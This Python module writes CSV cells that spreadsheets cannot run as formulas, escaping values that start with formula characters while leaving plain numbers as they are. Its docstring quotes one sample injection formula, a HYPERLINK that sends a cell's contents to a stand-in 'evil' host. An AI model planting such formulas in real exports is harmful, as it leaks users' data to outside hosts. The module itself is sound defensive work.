"""CSV cells a spreadsheet will not run: formula injection neutralised.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is taken
by Excel and LibreOffice as a formula; a scanned barcode or a catalogue text is anyone's
input (``=HYPERLINK("http://evil/?"&A1)``). Such a cell is written with a leading ``'``,
which the spreadsheet shows as text (OWASP, "CSV Injection"). Plain numbers (``-1.5``)
are left as they are: they are no formula, and a spreadsheet must read them as numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet runs as a formula."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """A CSV row of safe cells."""
    return [cell(v) for v in values]


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through ``cell``."""

    def __init__(self, out: TextIO) -> None:
        self._w = csv.writer(out, lineterminator="\r\n")

    def writerow(self, values: Iterable[Any]) -> None:
        """Write one row."""
        self._w.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write many rows."""
        for values in rows:
            self.writerow(values)


def writer(out: TextIO) -> SafeWriter:
    """A CSV writer (CRLF lines, as spreadsheets expect) that neutralises formulas."""
    return SafeWriter(out)
